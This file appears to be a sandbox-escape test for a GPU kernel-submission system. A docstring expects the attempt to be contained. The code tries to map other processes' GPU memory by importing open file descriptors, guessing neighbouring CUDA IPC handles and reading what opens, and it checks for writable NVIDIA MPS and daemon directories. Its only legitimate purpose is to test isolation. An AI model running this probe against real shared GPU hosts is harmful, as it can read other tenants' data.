"""class: looks for a way to map memory of others: descriptors left open, guessed IPC handles, a multi-process server
expect: contained | the arena's descriptors are closed after mapping, and nobody shares a namespace with a tenant
on: add:size=524288
Legacy handles name a client, an object and a process by small numbers; neighbours of its own are tried. Handles that
differ in a word that the driver does not read open the process's own memory: that is no effect."""

import os
import struct
import sys

import torch
from cuda.bindings import driver

HANDLE = driver.CUmemAllocationHandleType.CU_MEM_HANDLE_TYPE_POSIX_FILE_DESCRIPTOR
LAZY = driver.CUipcMem_flags.CU_IPC_MEM_LAZY_ENABLE_PEER_ACCESS


def effect(text):
    sys.stderr.write(f"ATTACK-EFFECT g11_foreign_handles: {text}\n")


torch.zeros(1, device="cuda")
for name in os.listdir("/proc/self/fd"):
    error, *_ = driver.cuMemImportFromShareableHandle(int(name), HANDLE)
    if error == driver.CUresult.CUDA_SUCCESS:
        effect(f"descriptor {name} is device memory")
mine = torch.full((1 << 20,), 0x5A, dtype=torch.uint8, device="cuda")
torch.cuda.synchronize()
error, own = driver.cuIpcGetMemHandle(mine.data_ptr())
if error == driver.CUresult.CUDA_SUCCESS:
    words = struct.unpack("<16I", bytes(own.reserved))
    sys.stderr.write(f"this process's own handle: {' '.join(f'{word:08x}' for word in words)}\n")
    for place in range(16):
        for change in (*range(1, 17), *range(-16, 0), 1 << 8, 1 << 16, 1 << 20):
            guess = driver.CUipcMemHandle()
            changed = [(word + change) % (1 << 32) if at == place else word for at, word in enumerate(words)]
            guess.reserved = struct.pack("<16I", *changed)
            error, address = driver.cuIpcOpenMemHandle(guess, LAZY)
            if error != driver.CUresult.CUDA_SUCCESS:
                continue
            seen = bytearray(64)
            error, *_ = driver.cuMemcpyDtoH(seen, int(address), len(seen))
            if error != driver.CUresult.CUDA_SUCCESS:
                sys.stderr.write(f"word {place} changed by {change}: opens, cannot be read: {error.name}\n")
            elif seen == b"\x5a" * len(seen):
                sys.stderr.write(f"word {place} changed by {change}: opens this process's own memory\n")
            else:
                effect(f"an IPC handle with word {place} changed by {change} opens memory that holds {seen[:8].hex()}")
            driver.cuIpcCloseMemHandle(address)
for path in ("/tmp/nvidia-mps", "/var/run/nvidia-persistenced", "/var/run/nvidia-fabricmanager", "/dev/nvidia-caps"):
    if os.path.isdir(path) and any(os.access(os.path.join(path, name), os.W_OK) for name in os.listdir(path)):
        effect(f"{path} can be written")


def custom_kernel(data):
    x, out = data
    return torch.add(x, 1.0, out=out)
